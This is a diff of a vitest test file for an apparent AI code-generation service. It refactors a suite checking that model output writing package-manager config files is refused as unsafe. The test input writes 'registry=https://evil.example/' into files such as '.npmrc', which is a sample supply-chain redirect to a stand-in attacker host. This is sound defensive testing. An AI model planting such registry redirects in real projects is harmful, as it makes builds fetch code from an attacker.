@@ -4,15 +4,15 @@ import { chmod, mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
 import { createServer, type Server } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { parseConfig } from '../src/config.js';
 import { createLogger } from '../src/observability/logger.js';
 import { type BuildSandbox, createBuildSandbox, probeBwrap } from '../src/toolchain/sandbox.js';
 import { buildEnv, type OutputLine, runStep, type StepResult } from '../src/toolchain/step-runner.js';
 import { databaseKind } from './support/db.js';
-import { type FakeGemini, startFakeGemini } from './support/fake-gemini.js';
-import { createProject, signUp } from './support/fixtures.js';
-import { startAccepted, startGenerationServer, waitForEnd } from './support/generation-helpers.js';
+import { createProject } from './support/fixtures.js';
+import { useGeminiServer } from './support/gemini-server.js';
+import { startAccepted, waitForEnd } from './support/generation-helpers.js';
 import { hostProcessesWith } from './support/hostile-project.js';
 import { startCapturedServer } from './support/log-capture.js';
 
@@ -176,30 +176,16 @@ describe(`configuring the build sandbox (${databaseKind})`, () => {
 });
 
 describe(`tool-steering files in the model's answer (${databaseKind})`, () => {
-  let gemini: FakeGemini;
-
-  beforeAll(async () => {
-    gemini = await startFakeGemini();
-  });
-
-  afterAll(async () => {
-    await gemini?.close();
-  });
+  const suite = useGeminiServer();
 
   it.each(['.npmrc', 'sub/.yarnrc.yml', '.pnpmfile.cjs', '.env.local'])('refuses %s as UNSAFE_OUTPUT', async (path) => {
-    const server = await startGenerationServer({ LLM_PROVIDER: 'gemini', GEMINI_API_KEY: 'x', GEMINI_BASE_URL: gemini.baseUrl });
-    try {
-      const owner = await signUp(server);
-      const project = await createProject(owner.client, { target: 'WEB' });
-      gemini.script({ kind: 'stream', chunks: [`<file path="${path}">\nregistry=https://evil.example/\n</file>\n`], usage: { promptTokens: 1, outputTokens: 1 } });
-      const started = await startAccepted(owner.client, { projectId: project.id, prompt: 'steer npm' });
-      const generation = await waitForEnd(server, owner.client, owner.accessToken, started.id);
+    const project = await createProject(suite.owner.client, { target: 'WEB' });
+    suite.gemini.script({ kind: 'stream', chunks: [`<file path="${path}">\nregistry=https://evil.example/\n</file>\n`], usage: { promptTokens: 1, outputTokens: 1 } });
+    const started = await startAccepted(suite.owner.client, { projectId: project.id, prompt: 'steer npm' });
+    const generation = await waitForEnd(suite.server, suite.owner.client, suite.owner.accessToken, started.id);
 
-      expect(generation.status).toBe('FAILED');
-      expect(generation.error?.code).toBe('UNSAFE_OUTPUT');
-      expect(generation.error?.message).toContain('steers the build tools');
-    } finally {
-      await server.stop();
-    }
+    expect(generation.status).toBe('FAILED');
+    expect(generation.error?.code).toBe('UNSAFE_OUTPUT');
+    expect(generation.error?.message).toContain('steers the build tools');
   });
 });
